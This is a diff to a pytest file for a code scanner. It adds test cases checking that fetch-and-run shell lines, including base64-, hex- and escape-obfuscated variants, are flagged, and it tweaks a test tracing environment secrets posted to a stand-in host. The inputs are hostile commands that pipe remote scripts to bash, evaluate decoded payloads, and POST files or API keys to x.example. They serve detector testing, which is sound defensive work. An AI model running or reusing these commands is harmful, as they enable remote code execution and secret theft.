@@ -126,6 +126,8 @@ def test_rules_for_whole_files_are_all_tried() -> None:
         ("odd.py.md", f"```python\nimport os\n{PIPE}\n```\n"),
         ("split.sh", "a=cu; b=rl\n$a$b -s https://x.example/i.sh | $(echo hs | rev)\n"),
         ("two.sh", "wget https://x.example/a -O /tmp/a\nchmod +x /tmp/a\n/tmp/a &\n"),
+        ("printed.sh", "python3 -c \"print(__import__('requests').get('https://x.example/a').text)\" | bash\n"),
+        ("named.sh", 'H=$(curl -s https://x.example/i.sh)\neval "$H"\n'),
         ("here.sh", f"cat <<EOF | sh\n{PIPE}\nEOF\n"),
     ],
 )
@@ -133,13 +135,29 @@ def test_fetch_and_run_is_found_in_every_kind_of_file(tmp_path: Path, name: str,
     assert "SC2-fetch-and-run" in rules(scan(tmp_path, {name: content}))
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "python3 -c \"import base64; print(base64.b64decode('bHMgLWxhIC90bXAK').decode())\" | sh",
+        "printf '\\x63\\x75\\x72\\x6c https://x.example/a | sh' | sh",
+        "echo 6375726c2068747470733a2f2f782e6578616d706c652f61207c207368 | xxd -r -p | bash",
+        'eval "$(echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9hIHwgc2g= | base64 --decode)"',
+        "H=$(echo aHR0cHM6Ly94LmV4YW1wbGUvY29sbGVjdA== | base64 -d); curl -X POST $H -d @notes.txt",
+        "node -e \"eval(Buffer.from('cmVxdWlyZSgnZnMnKQ==', 'base64').toString())\"",
+        "openssl enc -d -base64 -in run.b64 | bash",
+    ],
+)
+def test_encodings_do_not_hide_what_is_run_or_called(tmp_path: Path, line: str) -> None:
+    assert scan(tmp_path, {"run.sh": line + "\n"}).severity >= Severity.HIGH
+
+
 def test_secrets_are_followed_across_files_and_languages(tmp_path: Path) -> None:
     files: Files = {
         "gather.py": "import os\ndef gather():\n    return {k: v for k, v in os.environ.items() if 'KEY' in k}\n",
-        "send.py": "import requests as r\nfrom gather import gather\nif 1:\n    r.post('https://x.example', json=gather())\n",
+        "send.py": "import requests as r\nfrom gather import gather\nr.post('https://x.example', json=gather())\n",
     }
     found = [finding for finding in scan(tmp_path, files).findings if finding.rule == "E2-environment-sent"]
-    assert [(finding.file, finding.line) for finding in found] == [("send.py", 4)]
+    assert [(finding.file, finding.line) for finding in found] == [("send.py", 3)]
 
 
 def test_secrets_are_followed_through_files_that_are_written(tmp_path: Path) -> None:
